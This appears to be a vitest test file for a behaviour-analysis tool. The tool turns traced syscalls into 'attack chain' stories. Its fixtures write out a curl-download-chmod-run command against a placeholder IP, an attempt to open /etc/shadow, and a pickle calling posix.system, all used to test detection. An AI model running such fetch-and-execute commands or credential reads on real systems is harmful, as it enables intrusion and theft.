import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/schema.js';
import { attackChainsOf } from '../../src/core/attack-chains.js';
import { run } from '../behavior/support.js';

/** A shell that fetches a second stage, and runs it. */
const CHAIN = [
  '100 vfork() = 101',
  '101 execve("/bin/sh", ["sh", "-c", "curl -o /tmp/s http://203.0.113.7/x; chmod +x /tmp/s; /tmp/s"], ["HOME=/home/model"]) = 0',
  '101 vfork() = 102',
  '102 execve("/usr/bin/curl", ["curl", "-o", "/tmp/s", "http://203.0.113.7/x"], ["HOME=/home/model"]) = 0',
  '102 connect(3<TCP:[9]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("203.0.113.7")}, 16) = 0',
  '102 openat(AT_FDCWD</tmp>, "/tmp/s", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 4</tmp/s>',
  '102 +++ exited with 0 +++',
  '101 chmod("/tmp/s", 0755) = 0',
  '101 vfork() = 103',
  '103 execve("/tmp/s", ["/tmp/s"], ["HOME=/home/model"]) = -1 EACCES (Permission denied)',
  '103 +++ exited with 126 +++',
  '101 +++ exited with 0 +++',
];

describe('a story', () => {
  it('is what one process and its children do, in order, whatever the order of the findings', () => {
    const { findings } = run([
      ...CHAIN,
      '100 openat(AT_FDCWD</tmp>, "/etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)',
    ]);
    const stories = attackChainsOf(findings.toReversed());
    expect(stories.map(({ cause, severity, title }) => [cause, severity, title])).toEqual([
      ['process 101', 'critical', 'Fetches a program from the network and runs it'],
      ['process 100', 'high', 'Looks for the password file of this computer'],
    ]);
    expect(stories[0]?.steps.map(({ text }) => text)).toEqual([
      'PID 101 starts the program /bin/sh with the arguments sh -c "curl -o /tmp/s http://203.0.113.7/x; chmod +x /tmp/s; /tmp/s".',
      'PID 102 connects to 203.0.113.7 port 80 over TCP.',
      'PID 101 sets the permissions of /tmp/s to 755 (it may be run).',
      'PID 103 starts the program /tmp/s without arguments.',
    ]);
  });

  it('gathers steps of one rule that follow each other, so that many events read as few', () => {
    const folders = Array.from({ length: 25 }, (_, index) => `/home/model/projects/${index}`);
    const { findings } = run(
      folders.map((folder) => `100 openat(AT_FDCWD</tmp>, "${folder}", O_RDONLY|O_DIRECTORY) = 5<${folder}>`),
    );
    expect(findings).toHaveLength(25);
    const [story, ...others] = attackChainsOf(findings);
    expect(others).toEqual([]);
    expect(story?.steps).toHaveLength(1);
    expect(story?.steps[0]?.findings).toHaveLength(25);
  });

  it('begins with what the file itself shows of the same cause', () => {
    const told = (engine: Finding['engine'], line: number, rest: Partial<Finding>): Finding => ({
      rule: `DYN-${line}`,
      engine,
      severity: 'high',
      category: 'execution',
      title: `Title ${line}`,
      explanation: `It did ${line}. That matters.`,
      evidence: [{ text: '', line }],
      count: 1,
      advice: '',
      ...rest,
    });
    const pickle = { global: 'posix.system', offset: 12 };
    const stories = attackChainsOf([
      told('dynamic', 9, { story: 'posix.system at byte 12' }),
      told('static', 20, { cause: { pickle } }),
      told('dynamic', 3, { story: 'posix.system at byte 12' }),
    ]);
    expect(stories.map(({ steps }) => steps.map(({ text }) => text))).toEqual([
      ['It did 20.', 'It did 3.', 'It did 9.'],
    ]);
  });
});
